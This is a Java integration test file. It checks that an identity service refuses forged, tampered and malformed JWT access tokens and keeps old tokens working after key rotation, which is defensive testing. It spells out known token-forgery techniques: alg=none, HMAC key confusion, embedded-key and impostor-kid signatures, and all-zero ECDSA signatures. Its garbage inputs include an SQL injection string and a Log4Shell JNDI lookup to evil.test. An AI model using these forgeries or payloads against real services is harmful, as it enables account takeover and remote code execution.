package io.knowledgecloud.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.text.ParseException;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSSigner;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;

import io.knowledgecloud.identity.internal.TokenKeys;
import io.knowledgecloud.support.Api;
import io.knowledgecloud.support.Api.Response;
import io.knowledgecloud.support.IntegrationTest;

/**
 * Forged, tampered and malformed access tokens are refused over HTTP, and signing-key rotation
 * keeps earlier tokens valid. Every forgery starts from the claims of a real token that is
 * shown to work, so a refusal can only come from the forgery. Tokens signed with the server's
 * own key but carrying wrong claims (expired, wrong type, oversized) are in
 * {@code identity.internal.SignedClaimsIT}.
 */
@IntegrationTest
class TokenSecurityIT {

	private static final JOSEObjectType ACCESS = new JOSEObjectType("at+jwt");

	private final Api api;
	private final TokenKeys tokenKeys;

	@Autowired
	TokenSecurityIT(@LocalServerPort int port, TokenKeys tokenKeys) {
		this.api = new Api(port);
		this.tokenKeys = tokenKeys;
	}

	@Test
	void theGenuineTokenWorks() {
		Api.User user = api.signUp("genuine");
		assertThat(me(user.accessToken()).status()).isEqualTo(200);
		assertThat(me(user.accessToken()).get("email")).isEqualTo(user.email());
	}

	@ParameterizedTest
	@ValueSource(strings = { "none", "None", "NONE", "nOnE" })
	void unsignedTokensAreRefused(String alg) throws Exception {
		Api.User user = api.signUp("alg-none");
		SignedJWT genuine = SignedJWT.parse(user.accessToken());
		String header = json(Map.of("alg", alg, "typ", "at+jwt", "kid", genuine.getHeader().getKeyID()));
		String payload = genuine.getPayload().toBase64URL().toString();

		assertRefused(b64(header) + "." + payload + ".");
		assertRefused(b64(header) + "." + payload);
		assertRefused(b64(header) + "." + payload + "." + genuine.getSignature());
	}

	@Test
	void aTokenWithItsSignatureStrippedIsRefused() throws Exception {
		Api.User user = api.signUp("stripped");
		String[] parts = user.accessToken().split("\\.");
		assertRefused(parts[0] + "." + parts[1] + ".");
		assertRefused(parts[0] + "." + parts[1]);
	}

	@Test
	void hmacSignedWithThePublicKeyIsRefused() throws Exception {
		Api.User user = api.signUp("hmac");
		SignedJWT genuine = SignedJWT.parse(user.accessToken());
		String kid = genuine.getHeader().getKeyID();
		String jwksText = api.get("/.well-known/jwks.json").send().text();
		ECKey publicKey = JWKSet.parse(jwksText).getKeyByKeyId(kid).toECKey();
		byte[] der = publicKey.toECPublicKey().getEncoded();
		String pem = "-----BEGIN PUBLIC KEY-----\n" + Base64.getMimeEncoder().encodeToString(der)
				+ "\n-----END PUBLIC KEY-----\n";

		// every form of the public key a confused verifier might take as the HMAC secret
		List<byte[]> publicMaterial = List.of(publicKey.toJSONString().getBytes(StandardCharsets.UTF_8),
				jwksText.getBytes(StandardCharsets.UTF_8), der, pem.getBytes(StandardCharsets.UTF_8),
				concat(publicKey.getX().decode(), publicKey.getY().decode()));
		for (JWSAlgorithm hmac : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS512)) {
			for (byte[] secret : publicMaterial) {
				assertRefused(sign(new JWSHeader.Builder(hmac).keyID(kid).type(ACCESS).build(),
						genuine.getJWTClaimsSet(), new MACSigner(secret)));
			}
		}
	}

	@Test
	void aValidSignatureUnderAnUnknownKeyIsRefused() throws Exception {
		Api.User user = api.signUp("unknown-kid");
		JWTClaimsSet claims = SignedJWT.parse(user.accessToken()).getJWTClaimsSet();
		ECKey attacker = new ECKeyGenerator(Curve.P_256).keyID(UUID.randomUUID().toString()).generate();

		assertRefused(sign(es256(attacker.getKeyID()).build(), claims, new ECDSASigner(attacker)));
		assertRefused(sign(new JWSHeader.Builder(JWSAlgorithm.ES256).type(ACCESS).build(), claims,
				new ECDSASigner(attacker)));
		// the key embedded in the header must not be trusted either
		assertRefused(sign(es256(attacker.getKeyID()).jwk(attacker.toPublicJWK()).build(), claims,
				new ECDSASigner(attacker)));
	}

	@Test
	void anotherKeyUnderTheServersKidIsRefused() throws Exception {
		Api.User user = api.signUp("same-kid");
		SignedJWT genuine = SignedJWT.parse(user.accessToken());
		String kid = genuine.getHeader().getKeyID();
		ECKey impostor = new ECKeyGenerator(Curve.P_256).keyID(kid).generate();

		assertRefused(sign(es256(kid).build(), genuine.getJWTClaimsSet(), new ECDSASigner(impostor)));
		assertRefused(sign(es256(kid).jwk(impostor.toPublicJWK()).build(), genuine.getJWTClaimsSet(),
				new ECDSASigner(impostor)));
	}

	@Test
	void anAllZeroEcdsaSignatureIsRefused() throws Exception {
		// CVE-2022-21449 ("psychic signatures"): r = s = 0 verified on some JDKs
		Api.User user = api.signUp("psychic");
		String[] parts = user.accessToken().split("\\.");
		assertRefused(parts[0] + "." + parts[1] + "." + Base64URL.encode(new byte[64]));
	}

	@Test
	void aTamperedPayloadIsRefused() throws Exception {
		Api.User alice = api.signUp("tamper-alice");
		Api.User bob = api.signUp("tamper-bob");
		SignedJWT genuine = SignedJWT.parse(alice.accessToken());
		JWTClaimsSet claims = genuine.getJWTClaimsSet();
		JWTClaimsSet bobs = SignedJWT.parse(bob.accessToken()).getJWTClaimsSet();

		assertRefused(withPayload(genuine, new JWTClaimsSet.Builder(claims).subject(bob.id()).build()));
		assertRefused(withPayload(genuine, new JWTClaimsSet.Builder(claims).claim("email", bob.email()).build()));
		assertRefused(withPayload(genuine,
				new JWTClaimsSet.Builder(claims).claim("sid", bobs.getStringClaim("sid")).build()));
		assertRefused(withPayload(genuine, new JWTClaimsSet.Builder(claims)
			.expirationTime(new Date(claims.getExpirationTime().getTime() + 86_400_000L))
			.build()));
		assertRefused(withPayload(genuine, new JWTClaimsSet.Builder(claims)
			.expirationTime(new Date(System.currentTimeMillis() - 3_600_000L))
			.build()));

		// alice's header and payload with bob's (valid) signature
		String[] bobParts = bob.accessToken().split("\\.");
		String[] aliceParts = alice.accessToken().split("\\.");
		assertRefused(aliceParts[0] + "." + aliceParts[1] + "." + bobParts[2]);
		assertRefused(aliceParts[0] + "." + bobParts[1] + "." + aliceParts[2]);

		assertThat(me(alice.accessToken()).get("email")).isEqualTo(alice.email());
	}

	@Test
	void aTamperedHeaderIsRefused() throws Exception {
		Api.User user = api.signUp("tamper-header");
		SignedJWT genuine = SignedJWT.parse(user.accessToken());
		String kid = genuine.getHeader().getKeyID();
		String payload = genuine.getPayload().toBase64URL().toString();
		String signature = genuine.getSignature().toString();

		for (Map<String, Object> header : List.<Map<String, Object>>of(Map.of("alg", "ES256", "kid", kid),
				Map.of("alg", "ES256", "typ", "JWT", "kid", kid),
				Map.of("alg", "ES384", "typ", "at+jwt", "kid", kid),
				Map.of("alg", "ES256", "typ", "at+jwt", "kid", kid, "crit", List.of("exp")))) {
			assertRefused(b64(json(header)) + "." + payload + "." + signature);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "null", "x", "a.b", "a.b.c", "..", "....", "a.b.c.d.e", "eyJ.eyJ.sig", "{}",
			"eyJhbGciOiJFUzI1NiJ9.bm90IGpzb24.c2ln", "eyJhbGciOiJFUzI1NiJ9.W10.c2ln", "kc_", "kc_not-an-api-key",
			"Bearer", "%00%00", "' OR '1'='1", "${jndi:ldap://evil.test/a}" })
	void garbageIsRefused(String garbage) {
		assertRefused(garbage);
	}

	@Test
	void anOversizedTokenIsRefused() {
		Api.User user = api.signUp("oversized");
		String[] parts = user.accessToken().split("\\.");
		String padded = parts[0] + "." + parts[1] + "A".repeat(5000) + "." + parts[2];
		assertRefused(padded);
		assertRefused("A".repeat(6000));
	}

	@Test
	void aMissingOrEmptyCredentialIsRefused() {
		Response none = api.get("/api/v1/me").send();
		assertThat(none.status()).isEqualTo(401);
		assertThat(none.code()).isEqualTo("unauthenticated");
		assertThat(none.header("WWW-Authenticate")).isEqualTo("Bearer");
		assertThat(api.get("/api/v1/me").header("Authorization", "Basic dXNlcjpwYXNz").send().code())
			.isEqualTo("unauthenticated");
	}

	@Test
	void theJwksPublishesPublicEs256KeysOnly() throws Exception {
		Api.User user = api.signUp("jwks");
		String kid = SignedJWT.parse(user.accessToken()).getHeader().getKeyID();
		Response jwks = api.get("/.well-known/jwks.json").send();
		assertThat(jwks.status()).isEqualTo(200);
		assertThat(jwks.json().path("keys").values()).isNotEmpty().allSatisfy(key -> {
			assertThat(key.path("kty").asString()).isEqualTo("EC");
			assertThat(key.path("crv").asString()).isEqualTo("P-256");
			assertThat(key.path("alg").asString()).isEqualTo("ES256");
			assertThat(key.path("use").asString()).isEqualTo("sig");
			assertThat(key.has("d")).as("private key part").isFalse();
		});
		assertThat(JWKSet.parse(jwks.text()).getKeyByKeyId(kid)).isNotNull();
	}

	@Test
	void afterRotationOldTokensKeepWorkingAndNewOnesUseTheNewKey() throws Exception {
		Api.User user = api.signUp("rotation");
		String oldKid = kid(user.accessToken());

		String newKid = tokenKeys.rotate();

		assertThat(newKid).isNotEqualTo(oldKid);
		assertThat(me(user.accessToken()).status()).isEqualTo(200);
		String afterLogin = api.login(user.email(), user.password()).get("access_token");
		assertThat(kid(afterLogin)).isEqualTo(newKid);
		assertThat(me(afterLogin).status()).isEqualTo(200);
		Response refreshed = api.post("/api/v1/auth/refresh").json(Map.of("refresh_token", user.refreshToken())).send();
		assertThat(kid(refreshed.get("access_token"))).isEqualTo(newKid);

		var published = JWKSet.parse(api.get("/.well-known/jwks.json").send().text());
		assertThat(published.getKeys()).extracting(k -> k.getKeyID()).contains(oldKid, newKid);
	}

	private Response me(String token) {
		return api.get("/api/v1/me").token(token).send();
	}

	private void assertRefused(String token) {
		Response response = me(token);
		assertThat(response.status()).as("status for %s", abbreviate(token)).isEqualTo(401);
		assertThat(response.code()).as("code for %s", abbreviate(token)).isEqualTo("unauthenticated");
	}

	private static String abbreviate(String token) {
		return token.length() <= 120 ? token : token.substring(0, 120) + "…(" + token.length() + " chars)";
	}

	private static JWSHeader.Builder es256(String kid) {
		return new JWSHeader.Builder(JWSAlgorithm.ES256).keyID(kid).type(ACCESS);
	}

	private static String sign(JWSHeader header, JWTClaimsSet claims, JWSSigner signer) throws JOSEException {
		SignedJWT jwt = new SignedJWT(header, claims);
		jwt.sign(signer);
		return jwt.serialize();
	}

	/** The genuine header and signature around another payload. */
	private static String withPayload(SignedJWT genuine, JWTClaimsSet claims) {
		return genuine.getHeader().toBase64URL() + "." + Base64URL.encode(claims.toString()) + "."
				+ genuine.getSignature();
	}

	private static String kid(String token) throws ParseException {
		return SignedJWT.parse(token).getHeader().getKeyID();
	}

	private static String json(Map<String, Object> map) {
		return com.nimbusds.jose.util.JSONObjectUtils.toJSONString(map);
	}

	private static String b64(String json) {
		return Base64URL.encode(json).toString();
	}

	private static byte[] concat(byte[] a, byte[] b) {
		byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
		System.arraycopy(b, 0, out, a.length, b.length);
		return out;
	}
}
